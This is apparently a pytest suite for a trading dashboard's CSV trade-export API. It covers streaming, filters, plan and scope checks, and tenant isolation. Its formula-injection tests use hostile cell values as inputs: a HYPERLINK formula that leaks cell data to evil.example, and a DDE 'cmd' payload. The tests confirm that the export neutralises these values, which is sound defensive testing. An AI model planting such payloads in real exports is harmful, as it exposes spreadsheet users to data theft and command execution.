"""/api/v1/export/trades.csv: streamed, filtered like the list, safe to open in a spreadsheet,
allowed by the `export` scope or by `read` on a plan with exports."""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncClient

from dashboard.export import HEADER
from tenants.models import Tenant
from tenants.plans import Plan
from tenants.services import api_key_issue
from tests.base import owner_actor
from tests.factories import make
from trading.models import Bot, Trade

EXPORT = "/api/v1/export/trades.csv"
T0 = datetime(2030, 3, 1, tzinfo=UTC)
HOSTILE_NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
                 "-x", "@y", "\tTAB", "\rCR"]


def trade(bot: Bot, *, minutes=0, pnl="12.5", symbol="BTC/USDT", status=Trade.Status.CLOSED,
          exit_reason="take_profit") -> Trade:
    return Trade.objects.create(
        tenant_id=bot.tenant_id, bot=bot, symbol=symbol, status=status, amount=Decimal("0.02"),
        entry_price=Decimal("30000"), exit_price=Decimal("30625"),
        entry_time=T0 + timedelta(minutes=minutes), exit_time=T0 + timedelta(minutes=minutes + 9),
        fees=Decimal("1.2"), pnl=Decimal(pnl), pnl_pct=Decimal("2.08"), exit_reason=exit_reason)


def named_bot(tenant: Tenant, name: str) -> Bot:
    bot = make(Bot, tenant)
    Bot.objects.filter(pk=bot.pk).update(name=name)
    bot.name = name
    return bot


def rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _set_plan(tenant: Tenant, plan: str) -> None:
    Tenant.objects.filter(pk=tenant.pk).update(plan=plan)


@pytest.fixture
def reader(world):
    return world.client_with_key(world.read_key_a)


@pytest.fixture
def bot(world):
    return named_bot(world.tenant_a, "trend")


# --- the file ----------------------------------------------------------------------------------

def test_it_streams_a_csv_attachment_with_a_header_row(reader, bot):
    trade(bot)
    response = reader.get(EXPORT)
    assert response.status_code == 200
    assert response.streaming is True
    assert response["Content-Type"].startswith("text/csv")
    assert 'attachment; filename="trades-tenant-a-' in response["Content-Disposition"]
    first_line = b"".join(response.streaming_content).decode().splitlines()[0]
    assert first_line.split(",") == HEADER


def test_the_rows_match_the_trades(reader, bot):
    made = [trade(bot, minutes=m, pnl=p) for m, p in ((1, "12.5"), (2, "-3.75"))]
    made.append(trade(bot, minutes=3, status=Trade.Status.OPEN, exit_reason=""))
    Trade.objects.filter(pk=made[2].pk).update(exit_price=None, exit_time=None, pnl=None,
                                               pnl_pct=None)
    exported = rows(reader.get(EXPORT))
    assert [int(row["id"]) for row in exported] == [t.pk for t in made]
    first = exported[0]
    assert first["bot"] == "trend"
    assert (first["symbol"], first["status"], first["exit_reason"]) == (
        "BTC/USDT", "closed", "take_profit")
    assert Decimal(first["amount"]) == Decimal("0.02")
    assert Decimal(first["entry_price"]) == Decimal("30000")
    assert Decimal(first["pnl"]) == Decimal("12.5")
    assert datetime.fromisoformat(first["entry_time"]) == T0 + timedelta(minutes=1)
    assert datetime.fromisoformat(first["exit_time"]) == T0 + timedelta(minutes=10)
    still_open = exported[2]
    assert (still_open["status"], still_open["pnl"], still_open["exit_time"]) == ("open", "", "")


def test_an_empty_export_is_just_the_header(reader):
    response = reader.get(EXPORT)
    assert b"".join(response.streaming_content).decode().splitlines() == [",".join(HEADER)]


def test_it_filters_like_the_trade_list(world, reader, bot):
    other = named_bot(world.tenant_a, "other")
    a = trade(bot, minutes=1)
    b = trade(other, minutes=2, symbol="ETH/USDT", status=Trade.Status.OPEN)
    c = trade(bot, minutes=3)
    def exported_ids(**params):
        return [int(row["id"]) for row in rows(reader.get(EXPORT, params))]
    assert exported_ids(bot=bot.pk) == [a.pk, c.pk]
    assert exported_ids(symbol="ETH/USDT") == [b.pk]
    assert exported_ids(status="closed") == [a.pk, c.pk]
    assert exported_ids(since=(T0 + timedelta(minutes=2)).isoformat()) == [b.pk, c.pk]
    assert exported_ids(until=(T0 + timedelta(minutes=2)).isoformat()) == [a.pk]


def test_a_bad_filter_is_a_json_400_naming_it(reader):
    response = reader.get(EXPORT, {"since": "last tuesday"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "since" in response.json()["error"]["fields"]


# --- formula injection -------------------------------------------------------------------------

@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_text_cell_that_starts_a_formula_is_neutralised(world, reader, name):
    trade(named_bot(world.tenant_a, name))
    (row,) = rows(reader.get(EXPORT))
    assert row["bot"] == "'" + name


@pytest.mark.parametrize("name", ["ok\r=cmd|' /C calc'!A0", "ok\r=HYPERLINK(\"x\")",
                                  "ok\n@SUM(A1)", "ok\r\n+1"])
def test_a_line_break_inside_a_cell_stays_inside_that_cell(world, reader, name):
    trade(named_bot(world.tenant_a, name))
    (row,) = rows(reader.get(EXPORT))  # one row, not a second one starting with a formula
    assert row["bot"] == name
    assert row["symbol"] == "BTC/USDT"


def test_other_text_columns_are_neutralised_too(reader, bot):
    trade(bot, symbol="=1+1", exit_reason="@SUM(A1)")
    (row,) = rows(reader.get(EXPORT))
    assert (row["symbol"], row["exit_reason"]) == ("'=1+1", "'@SUM(A1)")


def test_plain_text_is_left_alone(world, reader):
    trade(named_bot(world.tenant_a, "Mean reversion #2 (ETH)"))
    (row,) = rows(reader.get(EXPORT))
    assert row["bot"] == "Mean reversion #2 (ETH)"


def test_negative_pnl_stays_a_number(reader, bot):
    trade(bot, pnl="-42.125")
    (row,) = rows(reader.get(EXPORT))
    assert not row["pnl"].startswith("'")
    assert Decimal(row["pnl"]) == Decimal("-42.125")


# --- who may export ----------------------------------------------------------------------------

def test_a_read_key_on_the_free_plan_is_refused_naming_pro(world, reader, bot):
    trade(bot)
    _set_plan(world.tenant_a, Plan.FREE)
    response = reader.get(EXPORT)
    assert response.status_code == 402
    assert response["Content-Type"] == "application/json"
    error = response.json()["error"]
    assert error["code"] == "plan_limit"
    assert "Free" in error["message"] and "Pro" in error["message"]


def test_a_signed_in_owner_on_the_free_plan_is_refused(world, bot):
    _set_plan(world.tenant_a, Plan.FREE)
    assert world.client_for(world.alice).get(EXPORT).status_code == 402


def test_a_read_key_on_the_pro_plan_exports(reader, bot):
    trade(bot)
    assert len(rows(reader.get(EXPORT))) == 1


@pytest.mark.parametrize("scopes", [["export"], ["admin"], ["read", "export", "control"]])
def test_no_key_lifts_the_free_plans_refusal(world, bot, scopes):
    trade(bot)
    _, full_key = api_key_issue(tenant=world.tenant_a, actor=owner_actor(world.tenant_a),
                                name="exporter", scopes=scopes)
    _set_plan(world.tenant_a, Plan.FREE)
    response = world.client_with_key(full_key, header="x-api-key").get(EXPORT)
    assert response.status_code == 402
    assert response.json()["error"]["code"] == "plan_limit"


def test_an_export_only_key_exports_on_pro_but_reads_nothing_else(world, bot):
    trade(bot)
    _, full_key = api_key_issue(tenant=world.tenant_a, actor=owner_actor(world.tenant_a),
                                name="exporter", scopes=["export"])
    client = world.client_with_key(full_key)
    assert len(rows(client.get(EXPORT))) == 1
    refused = client.get("/api/v1/bots/")
    assert refused.status_code == 403 and "'read'" in refused.json()["error"]["message"]


def test_a_viewer_session_on_pro_exports(world, bot):
    trade(bot)
    assert len(rows(world.client_for(world.bob).get(EXPORT))) == 1


def test_without_a_credential_it_is_a_json_401(db, client):
    response = client.get(EXPORT)
    assert response.status_code == 401
    assert response.json()["error"]["code"] == "not_authenticated"


def test_tenant_b_never_sees_tenant_a_trades(world, bot):
    mine = trade(bot)
    theirs = trade(named_bot(world.tenant_b, "theirs"))
    exported = rows(world.client_with_key(world.read_key_b).get(EXPORT))
    assert [int(row["id"]) for row in exported] == [theirs.pk]
    assert "trend" not in {row["bot"] for row in exported}
    filtered = rows(world.client_with_key(world.read_key_b).get(EXPORT, {"bot": bot.pk}))
    assert filtered == []
    assert mine.pk not in [int(row["id"]) for row in exported]


# --- under ASGI (daphne) -----------------------------------------------------------------------

@pytest.mark.django_db(transaction=True)
def test_under_asgi_it_streams_from_an_async_iterator(world):
    bot = named_bot(world.tenant_a, "=evil")
    made = [trade(bot, minutes=m) for m in range(3)]

    async def download():
        response = await AsyncClient().get(
            EXPORT, headers={"Authorization": f"Bearer {world.read_key_a}"})
        assert response.status_code == 200
        assert response.is_async
        return b"".join([chunk async for chunk in response.streaming_content])

    text = async_to_sync(download)().decode()
    exported = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [int(row["id"]) for row in exported] == [t.pk for t in made]
    assert {row["bot"] for row in exported} == {"'=evil"}
